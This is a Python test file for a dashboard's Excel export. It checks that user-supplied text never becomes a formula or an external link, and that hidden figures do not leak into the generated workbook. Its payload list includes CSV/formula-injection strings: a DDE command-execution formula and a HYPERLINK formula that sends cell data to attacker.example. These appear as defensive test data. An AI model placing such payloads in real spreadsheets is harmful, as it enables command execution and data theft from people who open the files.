"""What must never be in the file: formulas from text, hidden numbers, links."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from openpyxl.utils.escape import unescape

from dashboard.blocks import (
    Attention,
    Bars,
    Block,
    Cell,
    Column,
    Concern,
    Funnel,
    FunnelBand,
    FunnelPoint,
    Header,
    Histogram,
    Kind,
    Letter,
    Matrix,
    MatrixRow,
    Measure,
    Notice,
    Passport,
    Quantity,
    Role,
    Row,
    Segment,
    Series,
    Status,
    Table,
    Tile,
    Tiles,
    Tone,
    Trend,
)
from dashboard.export.context import ExportContext
from tests.export.samples import (
    CONTEXT,
    HIDDEN_DENOMINATOR,
    HIDDEN_NUMERATOR,
    HIDDEN_VALUE,
    hidden,
    made,
    opened,
    parts,
)

PAYLOADS = [
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://attacker.example/?"&A1,"x")',
    "{=1+1}",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "http://attacker.example/",
    "mailto:x@attacker.example",
    "internal:'О выгрузке'!A1",
    "00123",
    "1e5",
]


def poisoned(payload: str) -> tuple[Block, ...]:
    """Every type of block with the payload in every text it has."""
    one = Quantity.share(1, 2, payload)
    missing = Quantity.missing(Measure.PERCENT, payload)
    cell = Cell(payload, note=payload, tags=(payload,))
    column = Column("a", payload, help=payload)
    chip = Column("b", payload, Kind.STATUS)
    passport = Passport(*[payload] * 6)
    tile = Tile("t", payload, one, target_text=payload, caption=payload, passport=passport, suffix=payload)
    tail = (Cell(quantity=one, note=payload), cell)
    return (
        Tiles("1", payload, (tile,), payload),
        Trend("2", payload, payload, (payload,), (Series(payload, (one,)),), Measure.PERCENT, 50.0, payload),
        Trend("3", payload, payload, (payload,), (Series(payload, (missing,)),), Measure.PERCENT),
        Bars("4", payload, payload, (payload,), (Segment(payload, payload, (1,)),), payload),
        Table("5", payload, payload, (column, chip), (Row((cell, cell)),), (payload,), payload),
        Table("6", payload, payload, (column,), (), empty=payload),
        Matrix(
            "7",
            payload,
            payload,
            payload,
            (Header(payload, payload),),
            (MatrixRow(cell, (cell,), tail),),
            (column, chip),
            (payload,),
            payload,
        ),
        Attention("8", payload, (Concern(payload, payload, Status.RISK),), 2, payload),
        Notice("9", payload, payload),
        Histogram(
            "10",
            payload,
            payload,
            (payload, payload),
            (1, 2),
            (1.0, 2.0),
            ((1, payload),),
            (1,),
            payload,
            payload,
            (payload,),
            payload,
        ),
        Funnel(
            "11",
            payload,
            payload,
            (FunnelPoint(payload, 5, 50.0, role=Role.ALERT, note=payload),),
            50.0,
            (FunnelBand(payload, (1.0, 9.0), (1.0, 1.0), (9.0, 9.0)),),
            Measure.INDEX,
            payload,
            (payload,),
            payload,
        ),
        Letter("12", payload, payload, (payload, payload), (payload,), payload),
    )


def poisoned_file(payload: str) -> bytes:
    context = ExportContext(payload, payload, ((payload, payload),), CONTEXT.made_at, payload, 1, payload)
    return made(*poisoned(payload), context=context)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_never_becomes_a_formula_or_an_outside_link(payload: str) -> None:
    found = parts(poisoned_file(payload))
    sheets = {name: part for name, part in found.items() if name.startswith("xl/worksheets/sheet")}
    assert len(sheets) == 13
    assert not [name for name, part in sheets.items() if re.search(r"<f[ >/]", part)]
    # Charts hold references only, to sheets of this file, and names are print and filter ranges.
    references = [
        ref
        for name, part in found.items()
        if "charts/" in name
        for ref in re.findall(r"<c:f>(.*?)</c:f>", part)
    ]
    assert references
    assert all(
        re.fullmatch(r"(?:'[^']+'|[\w.]+)!\$[A-Z]+\$\d+(?::\$[A-Z]+\$\d+)?", ref) for ref in references
    )
    assert set(re.findall(r'definedName name="([^"]+)"', found["xl/workbook.xml"])) <= {
        "_xlnm.Print_Area",
        "_xlnm.Print_Titles",
        "_xlnm._FilterDatabase",
    }
    assert not [name for name, part in found.items() if "TargetMode" in part]
    assert "xl/externalLinks" not in " ".join(found)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_is_stored_as_text_unchanged(payload: str) -> None:
    block = Table("t", "Таблица", "", (Column("a", "Текст"),), (Row((Cell(payload),)),))
    sheet = opened(block).worksheets[1]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    stored = [cell for cell in cells if unescape(str(cell.value)) == payload]
    assert [cell.data_type for cell in stored] == ["s"]


def hiding() -> tuple[Block, ...]:
    """Every type of block with a hidden number in every place that may carry one."""
    secret = f"{HIDDEN_NUMERATOR} из {HIDDEN_DENOMINATOR}"
    cell = Cell(
        secret,
        hidden(),
        tone=Tone.BAD,
        status=Status.BELOW,
        low=HIDDEN_VALUE,
        high=HIDDEN_VALUE,
        framed=True,
        note=secret,
        tags=(secret,),
    )
    tile = Tile(
        "t",
        "Скрытый показатель",
        hidden(),
        Status.BELOW,
        Quantity(50, Measure.PERCENT),
        change=Quantity(HIDDEN_VALUE, Measure.CHANGE),
        caption=secret,
        spark=(1.0, HIDDEN_VALUE),
    )
    columns = tuple(Column(kind, kind, kind, Measure.PERCENT, target=50.0) for kind in Kind)
    cells = tuple(cell for _kind in Kind)
    points = tuple(hidden(measure) for measure in (Measure.PERCENT, Measure.PERCENT))
    shown = (Quantity.share(1, 4), Quantity.share(2, 4))
    return (
        Tiles("1", "Плитки", (tile, replace(tile, target=hidden(), change=hidden(Measure.CHANGE)))),
        Trend("2", "Ряды", "", ("а", "б"), (Series("с", points), Series("д", shown)), Measure.PERCENT),
        Table("3", "Таблица", "", columns, (Row(cells), Row(cells, is_total=True))),
        Matrix("4", "Матрица", "", "", (Header("а", "а"),), (MatrixRow(cell, (cell,), cells),), columns),
    )


def test_a_hidden_number_is_nowhere_in_the_file() -> None:
    found = parts(made(*hiding()))
    canaries = ("7351", "12.34", "12,34", "3456789", "0.1234", "90417")
    leaks = {name: canary for name, part in found.items() for canary in canaries if canary in part}
    assert not leaks
    assert any("xl/charts/chart" in name for name in found)


def test_hidden_numbers_are_the_word_without_colour_status_or_comment() -> None:
    book = opened(*hiding())
    words = [
        cell
        for sheet in book.worksheets[1:]
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == "скрыто"
    ]
    assert len(words) > 20
    assert {cell.fill.fill_type for cell in words} == {None}
    assert not [cell for cell in words if cell.comment]
    for sheet in book.worksheets[1:]:
        assert "▼ ниже цели" not in [cell.value for row in sheet.iter_rows() for cell in row]
